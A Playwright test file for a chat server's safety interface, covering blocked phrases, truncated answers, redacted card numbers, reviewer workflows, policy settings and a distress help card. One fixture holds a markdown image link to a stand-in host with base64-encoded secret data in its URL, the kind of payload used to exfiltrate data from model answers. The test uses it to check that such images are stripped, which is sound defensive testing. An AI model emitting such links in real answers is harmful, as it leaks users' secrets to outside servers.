"""What people see of the safety checks: blocks, cuts, hidden values, reviews and policies."""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Route, ViewportSize, expect
from tests.browser.axe import accessibility_problems
from tests.browser.test_settings import part
from tests.browser.test_shared import share
from tests.browser.world import Person, Server

CARD = "4556 7375 8689 9855"
DENIED = "purple monkey"
BLOCKED = "This message was not answered"
PHONE: ViewportSize = {"width": 390, "height": 780}


@pytest.fixture
def answers() -> list[str]:
    """What the model says first, whatever it is asked."""
    return []


@pytest.fixture
def server(
    tmp_path: Path, copy_database: Callable[[Path], Path], answers: list[str]
) -> Iterator[Server]:
    settings = {
        "HITSEND_EMBEDDINGS": "off",
        "HITSEND_SAFETY": "rules",
        "WORKSHOP_ANSWERS": json.dumps(answers),
    }
    program = ("tests.browser.workshop",)
    running = Server(copy_database(tmp_path).parent, settings=settings, program=program)
    running.start()
    yield running
    running.stop()


def set_policy(admin: Person, **policy: Any) -> None:
    admin.post("safety/policies/everyone", policy, "PUT")


def make_reviewer(admin: Person, person: Person) -> None:
    user = person.get("me")["user"]
    admin.patch(f"people/{user['id']}", {"role": "reviewer"})
    person.page.reload()
    person.draft.wait_for()


def notice(person: Person, title: str) -> Locator:
    return person.answers.last.get_by_role("region", name=title)


def send_anyway(person: Person, text: str) -> None:
    """Sends a message with a card number."""
    person.say(text)
    person.button("Send anyway").click()
    person.wait_for_answer()


def ask_for_review(person: Person, title: str, words: str) -> None:
    notice(person, title).get_by_role("button", name="Ask for a review").click()
    dialog = person.page.get_by_role("dialog", name="Ask for a review")
    dialog.get_by_label("Anything they should know?").fill(words)
    dialog.get_by_role("button", name="Send to review").click()
    expect(notice(person, title)).to_contain_text("You asked for a review")


def open_review(person: Person, cause: str) -> Locator:
    """Opens the only review of this cause by keyboard."""
    reviews = part(person.open_settings("Reviews"), "Reviews")
    reviews.get_by_role("button", name=f"Open: {cause}").press("Enter")
    expect(reviews.get_by_role("region", name="Message and context")).to_be_focused()
    return reviews


@pytest.mark.parametrize("answers", [["Gladly: it is a book."]])
def test_a_blocked_message_is_explained_and_sent_again_once_a_reviewer_allows_it(
    ada: Person, bob: Person, new_person: Callable[[], Person]
) -> None:
    set_policy(ada, denied=[DENIED])
    carol = new_person()
    invite = ada.post("invites", {"role": "reviewer"})["path"].rsplit("/", 1)[1]
    carol.register("carol", "sign-up", invite=invite)

    bob.ask(f"Who wrote The {DENIED}?")
    card = notice(bob, BLOCKED)
    expect(card).to_contain_text("A rule of this server stops it.")
    expect(card).to_contain_text("from your server, not from the model")
    expect(bob.answers.last.get_by_role("button", name="Answer again")).to_have_count(0)
    expect(bob.answers.last.get_by_role("button", name="Continue")).to_have_count(0)
    assert accessibility_problems(bob.page) == []
    ask_for_review(bob, BLOCKED, "It is the title of a book.")
    bob.page.reload()
    expect(card).to_contain_text("You asked for a review")

    expect(carol.page.get_by_role("link", name="1 open review")).to_have_count(0)
    carol.page.reload()
    carol.page.get_by_role("link", name="1 open review").click()
    settings = carol.page.get_by_role("dialog", name="Settings")
    expect(settings.get_by_role("link", name="People")).to_have_count(0)
    expect(settings.get_by_role("link", name="Safety", exact=True)).to_have_count(0)
    reviews = open_review(carol, "Review requested")
    expect(reviews).to_contain_text(f"Who wrote The {DENIED}?")
    expect(reviews).to_contain_text("It is the title of a book.")
    expect(reviews).to_contain_text("Rule: Blocked phrase")
    assert accessibility_problems(carol.page) == []
    reviews.get_by_label("Note to the person").fill("A book indeed.")
    reviews.get_by_role("button", name="This is fine").press("Enter")
    expect(reviews.get_by_role("status").filter(has_text="Decided: this is fine.")).to_be_visible()
    expect(reviews).to_contain_text("Nothing is waiting for a review.")
    reviews.get_by_role("radio", name="Decided").check()
    expect(reviews.get_by_role("listitem")).to_contain_text("Found fine")
    expect(settings.get_by_role("link", name="Export decided reviews")).to_have_count(0)

    bob.page.reload()
    expect(card).to_contain_text("A reviewer found this fine. You can send it again.")
    expect(card).to_contain_text("A book indeed.")
    card.get_by_role("button", name="Send again").click()
    expect(bob.answers.last).to_contain_text("Gladly: it is a book.")
    expect(notice(bob, BLOCKED)).to_have_count(0)


@pytest.mark.parametrize(
    "answers", [[f"A first sentence. And a second one. Now the {DENIED} comes. More."]]
)
def test_a_cut_answer_keeps_what_was_shown_and_cannot_be_continued(
    ada: Person, bob: Person
) -> None:
    set_policy(ada, denied=[DENIED])
    bob.ask("Say something.")
    title = "This answer was stopped here"
    expect(notice(bob, title)).to_be_visible()
    assert bob.answer_text == "A first sentence. And a second one."
    expect(bob.answers.last.get_by_role("button", name="Continue")).to_have_count(0)
    expect(bob.button("Answer again").last).to_be_visible()
    bob.page.reload()
    ask_for_review(bob, title, "")
    assert bob.answer_text == "A first sentence. And a second one."

    reviews = open_review(ada, "Review requested")
    expect(reviews).to_contain_text("Say something.")
    reviews.get_by_role("button", name="Keep the decision").click()
    expect(reviews).to_contain_text("Nothing is waiting for a review.")
    bob.page.reload()
    expect(notice(bob, title)).to_contain_text("kept the decision")


def test_a_hidden_card_number_is_shown_to_its_owner_alone(
    ada: Person, new_person: Callable[[], Person]
) -> None:
    send_anyway(ada, f"!script\nYour card is {CARD}.\n\n```\n{CARD}\n```")
    question, answer = ada.stored
    (placeholder,) = {one["placeholder"] for one in question["metadata"]["redactions"]}
    assert CARD not in question["content"]["parts"][0] + answer["content"]["parts"][0]
    hint = ada.page.locator(".tooltip")
    for _ in range(2):
        shown = ada.answers.last.get_by_role("note")
        expect(shown).to_have_text(CARD)
        expect(ada.questions.last.get_by_role("note").first).to_have_text(CARD)
        expect(ada.answers.last.locator("pre")).to_have_text(CARD)
        expect(ada.messages).not_to_contain_text(placeholder)
        shown.hover()
        expect(hint).to_have_text("Hidden from the model")
        ada.page.keyboard.press("Escape")
        expect(hint).to_have_count(0)
        shown.focus()
        expect(hint).to_have_text("Hidden from the model")
        ada.page.reload()
        ada.answers.last.wait_for()
    assert accessibility_problems(ada.page) == []
    ada.allow_clipboard()
    ada.button("Copy answer").click()
    ada.expect_copied(f"Your card is {CARD}.\n\n```\n{CARD}\n```")

    stranger = new_person()
    stranger.visit(share(ada)["path"])
    expect(stranger.page.get_by_role("article", name="Answer")).to_contain_text(placeholder)
    assert CARD not in stranger.page.content()
    assert CARD not in stranger.page.get_by_role("main").inner_text()


STOLEN = "![x](https://collect.example.org/p.png?d=dGhlIHBhc3N3b3JkIGlzIGhlbGlvdHJvcGUgYW5kIG1vcmU)"


@pytest.mark.parametrize(
    "answers", [[f"Look here. {STOLEN} That was it.", "I can’t help with that."]]
)
def test_what_was_removed_from_an_answer_and_a_refusal_are_told(ada: Person) -> None:
    ada.ask("What is new?")
    expect(ada.answers.last).to_contain_text("An image was removed")
    expect(ada.answers.last).to_contain_text("[image removed]")
    ada.page.reload()
    expect(ada.answers.last).to_contain_text("An image was removed")
    ada.ask("And now?")
    expect(ada.answers.last.get_by_text("The model declined")).to_be_visible()


def test_people_to_talk_to_stand_above_the_answer_to_someone_in_distress(ada: Person) -> None:
    """Only the classifier finds distress, which this server does without: its word is put in."""
    ada.ask("!script\nI am here.")

    def add_word(route: Route) -> None:
        found = route.fetch()
        tree = found.json()
        for node in tree["mapping"].values():
            if node["message"] and node["message"]["author"]["role"] == "user":
                word = {"stage": "prompt", "outcome": "caution", "has_help": True}
                node["message"]["metadata"]["safety"] = word
        route.fulfill(response=found, json=tree)

    ada.page.route(re.compile("/backend-api/conversation/[^/]+$"), add_word)
    ada.page.reload()
    card = ada.answers.last.get_by_role("region", name="You are not alone")
    expect(card.get_by_role("link", name="Find help in any country")).to_be_visible()
    expect(ada.answers.last).to_contain_text("I am here.")
    assert accessibility_problems(ada.page) == []


def test_an_administrator_changes_the_policy_tries_a_text_and_sees_the_counts(
    ada: Person, bob: Person
) -> None:
    settings = ada.open_settings("Safety")
    policy = part(settings, "Policy")
    expect(policy.get_by_label("Self-harm", exact=True)).to_have_value("caution")
    policy.get_by_label("Hate", exact=True).select_option("Answer with care")
    policy.get_by_role("switch", name="E-mail addresses").click()
    policy.get_by_label("Always blocked").fill("x")
    expect(policy).to_contain_text("Each line needs 2 to 200 characters")
    policy.get_by_label("Always blocked").fill(f"{DENIED}\n")
    policy.get_by_role("button", name="Save policy").click()
    expect(policy).to_contain_text("The policy is saved.")
    stored = ada.get("safety/policies")["changed"]["everyone"]["policy"]
    assert stored["denied"] == [DENIED]
    assert stored["actions"]["hate"] == "caution"
    assert stored["redacted"] == ["key", "card", "email"]

    trying = part(settings, "Try a text").first
    trying.get_by_label("Text").fill(f"The {DENIED} writes to ann@example.org.")
    trying.get_by_role("button", name="Try").click()
    result = trying.get_by_role("region", name="Try a text")
    expect(result).to_contain_text("Rule: Blocked phrase")
    expect(result).to_contain_text("Blocked")
    expect(result).to_contain_text("[EMAIL_")
    expect(result).to_contain_text("There is no classifier")

    bob.ask(f"The {DENIED}?")
    bob.ask("And bread?")
    settings.get_by_role("link", name="Account", exact=True).click()
    settings.get_by_role("link", name="Safety", exact=True).click()
    statistics = part(settings, "Statistics")
    row = statistics.get_by_role("row", name="Blocked phrase")
    expect(row).to_contain_text("100%")
    chart = statistics.get_by_role("slider", name="Outcomes by day")
    expect(chart).to_have_attribute("aria-valuetext", re.compile("Allowed 1, Blocked 1"))
    expect(statistics.get_by_role("table", name="Outcomes by day")).to_be_attached()
    assert accessibility_problems(ada.page) == []

    policy.get_by_role("button", name="Reset to default").click()
    ada.page.get_by_role("dialog", name="Reset this policy?").get_by_role(
        "button", name="Reset to default"
    ).click()
    expect(policy).to_contain_text("The policy is reset.")
    expect(policy.get_by_label("Always blocked")).to_have_value("")
    assert ada.get("safety/policies")["changed"] == {}


def test_a_group_follows_everyone_until_it_has_a_policy_of_its_own(ada: Person) -> None:
    ada.post("groups", {"name": "Team"})
    policy = part(ada.open_settings("Safety"), "Policy")
    policy.get_by_label("Applies to").select_option("Team")
    expect(policy).to_contain_text("Follows everyone’s policy.")
    policy.get_by_label("When unsure").select_option("Allow and review")
    policy.get_by_role("button", name="Save policy").click()
    expect(policy).to_contain_text("Changed 1 time.")
    changed = ada.get("safety/policies")["changed"]
    assert [one["policy"]["unsure"] for one in changed.values()] == ["review"]
    policy.get_by_label("Applies to").select_option("Everyone")
    expect(policy.get_by_label("When unsure")).to_have_value("caution")


def test_a_member_is_made_a_reviewer_and_a_member_again(ada: Person, bob: Person) -> None:
    people = part(ada.open_settings("People"), "People")
    ada.choose("What to do with bob", "Make reviewer")
    expect(people.get_by_role("status")).to_have_text("bob is a reviewer now.")
    expect(people.get_by_role("listitem").filter(has_text="bob")).to_contain_text("Reviewer")
    bob.page.reload()
    bob.open_settings("Reviews")
    ada.choose("What to do with bob", "Make member")
    expect(people.get_by_role("status")).to_have_text("bob is a member now.")
    bob.page.reload()
    expect(bob.page.get_by_role("link", name="Reviews")).to_have_count(0)


def test_the_reviews_work_on_a_phone(ada: Person, bob: Person) -> None:
    set_policy(ada, denied=[DENIED])
    bob.ask(f"Who wrote The {DENIED}?")
    ada.page.set_viewport_size(PHONE)
    ada.visit("/#settings/reviews")
    settings = ada.page.get_by_role("dialog", name="Settings")
    settings.get_by_role("button", name="Open: Stopped by the checks").click()
    settings.get_by_role("button", name="Keep the decision").scroll_into_view_if_needed()
    overflow = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
    assert not ada.page.evaluate(overflow)
    expect(settings.get_by_role("button", name="Keep the decision")).to_be_in_viewport()
